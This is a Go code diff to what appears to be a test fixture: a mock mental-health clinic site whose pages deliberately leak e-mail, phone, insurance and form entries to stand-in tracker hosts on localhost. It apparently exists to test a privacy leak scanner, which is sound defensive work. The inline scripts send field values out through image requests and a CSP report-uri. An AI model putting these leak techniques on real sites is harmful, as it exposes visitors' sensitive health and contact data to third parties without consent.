@@ -34,6 +34,7 @@ type Way struct {
 	What string // what leaves: a word that the finding must tell
 	To   string // the receiver's name before .tracker.localhost; Name if empty
 	Own  bool   // the site's own server takes it
+	Mute bool   // no request of it may arrive: it is handed over otherwise, or the scan holds it back
 }
 
 // page is one page of the leaking site.
@@ -62,6 +63,11 @@ var pages = []page{
 	{"/callback", "We call you back", mail("ping", "title", "split", "pieces", "split-back", "later", "redirect", "window", "sync", "dom", "referer")},
 	{"/self-test", "Depression self-test", append(mail("keys", "key-codes", "key-batch", "growing", "key-socket", "pagehide", "hidden", "before-unload", "message", "next-page"),
 		Way{Name: "shadow", What: "shade"}, Way{Name: "step-two", What: "second"}, Way{Name: "editable", What: "free"}, Way{Name: "inner-frame", What: "inner"}, Way{Name: "their-frame", What: "theirs"})},
+	{"/first-visit", "Your first visit", append(append(mail("method", "protocol", "accept", "csp-report", "fetch-later", "after-five", "interval", "with-click", "truncated", "json-deep", "form-get", "xor"),
+		Way{Name: "card", What: "Choice"}, Way{Name: "option", What: "Insurance"}, Way{Name: "short-choice", What: "clinician"}, Way{Name: "word", What: "depression"}),
+		Way{Name: "submit", What: "e-mail", Mute: true}, Way{Name: "submit-post", What: "e-mail", Mute: true}, Way{Name: "submit-socket", What: "e-mail", Mute: true}, Way{Name: "send-button", What: "telephone", Mute: true},
+		Way{Name: "handed", What: "e-mail"}, Way{Name: "hint", What: "e-mail", Mute: true}, Way{Name: "call", What: "e-mail", Mute: true})},
+	{"/waiting-list", "Waiting list", []Way{{Name: "dialog", What: "late"}}},
 	{"/conditions/depression", "Depression and anxiety treatment", []Way{{Name: "address", What: "address"}, {Name: "carried", What: "e-mail"}, {Name: "click-id", What: "click"}}},
 }
 
@@ -158,9 +164,13 @@ func (s *Site) receive(w http.ResponseWriter, r *http.Request) {
 	h := w.Header()
 	h.Set("Access-Control-Allow-Origin", "*")
 	h.Set("Access-Control-Allow-Headers", "*")
+	h.Set("Access-Control-Allow-Methods", "*")
 	switch {
 	case r.Header.Get("Upgrade") == "websocket":
 		s.socket(w, r)
+	case r.URL.Path == "/silent":
+		h.Set("Content-Type", "text/html")
+		_, _ = io.WriteString(w, `<!doctype html><script>onmessage=(e)=>{globalThis.kept=e.data}</script>`)
 	case r.URL.Path == "/listen":
 		h.Set("Content-Type", "text/html")
 		_, _ = io.WriteString(w, `<!doctype html><script>onmessage=(e)=>{new Image().src='/p?m='+encodeURIComponent(e.data)}</script>`)
@@ -265,6 +275,8 @@ type shown struct {
 	Pages       []page
 	Frames      bool
 	Form        bool
+	First       bool
+	Dialog      bool
 }
 
 // Path and Title are for the template.
@@ -284,7 +296,8 @@ func (s *Site) show(w http.ResponseWriter, r *http.Request, leaks bool) {
 			http.NotFound(w, r)
 			return
 		}
-		v.Title, v.Form = pages[i].title, pages[i].path != "/conditions/depression"
+		v.Title, v.Form = pages[i].title, pages[i].path != "/conditions/depression" && pages[i].path != "/waiting-list"
+		v.First, v.Dialog = pages[i].path == "/first-visit", pages[i].path == "/waiting-list"
 		var names []string
 		for _, way := range pages[i].ways {
 			names = append(names, way.Name)
@@ -293,6 +306,9 @@ func (s *Site) show(w http.ResponseWriter, r *http.Request, leaks bool) {
 		v.Frames = slices.Contains(names, "inner-frame")
 	}
 	w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	if leaks && r.URL.Path == "/first-visit" {
+		w.Header().Set("Content-Security-Policy", "object-src 'none'; report-uri http://csp-report.tracker.localhost:"+s.Tracker+"/c")
+	}
 	name := "page"
 	if r.URL.Path == "/inner" {
 		name = "inner"
@@ -312,12 +328,15 @@ var templates = template.Must(template.New("page").Parse(`<!doctype html><html l
 <fieldset><legend>Kind of visit</legend><label><input type="radio" name="kind" value="in-person-first"> In person</label> <label><input type="radio" name="kind" value="video-follow-up"> By video</label></fieldset>
 <p><label>Reason for the visit <textarea name="reason"></textarea></label></p>
 <p><button type="button" class="slot">Tuesday 10:30 am</button> <button type="button" class="slot">Friday 2:15 pm</button></p>
+{{if .First}}<ul><li><h3>Dr. Ines Marchetti</h3><button type="button" class="card">Choose</button></li><li><h3>Dr. Ola Bergstrand</h3><button type="button" class="card">Choose</button></li></ul>
+<div role="listbox" aria-label="Insurance"><div role="option" tabindex="0">None at all</div><div role="option" tabindex="0">Meridian Gold Plan</div></div>
+<button type="button" id="ask">Send my number</button>{{end}}
 {{if .Frames}}<div id="shade"></div><div id="free" contenteditable="true" aria-label="free words"></div>
 <button type="button" id="on">Next</button><p id="later" hidden><label>second step <input id="second" name="second"></label></p>
 <iframe src="/inner?{{.Port}}" width="300" height="60"></iframe>
 {{if .Leaks}}<iframe src="http://their-frame.tracker.localhost:{{.Port}}/widget" width="300" height="60"></iframe>{{end}}
 <script>const root=document.querySelector('#shade').attachShadow({mode:'closed'});const i=document.createElement('input');i.name='shade';i.setAttribute('aria-label','shade');root.append(i);document.querySelector('#shade').inner=i;document.querySelector('#on').onclick=()=>{document.querySelector('#later').hidden=false};</script>{{end}}
-<p><button>Send</button></p></form>{{end}}</main>
+<p><button>Send</button></p></form>{{end}}{{if .Dialog}}<button type="button" id="up">Request an appointment</button><dialog id="box"><label>late <input name="late"></label></dialog><script>document.querySelector('#up').onclick=()=>document.querySelector('#box').showModal();</script>{{end}}</main>
 {{if .Leaks}}<script src="/ways.js" data-port="{{.Port}}" data-ways="{{.Ways}}"></script>{{else}}<script src="/own.js"></script>{{end}}
 </body></html>
 {{define "inner"}}<!doctype html><html lang="en"><title>Inside</title><label>inner <input name="inner"></label>{{if .Leaks}}<script>document.querySelector('input').addEventListener('change',(e)=>{new Image().src='http://inner-frame.tracker.localhost:{{.Port}}/p?m='+encodeURIComponent(e.target.value)})</script>{{end}}</html>{{end}}`))
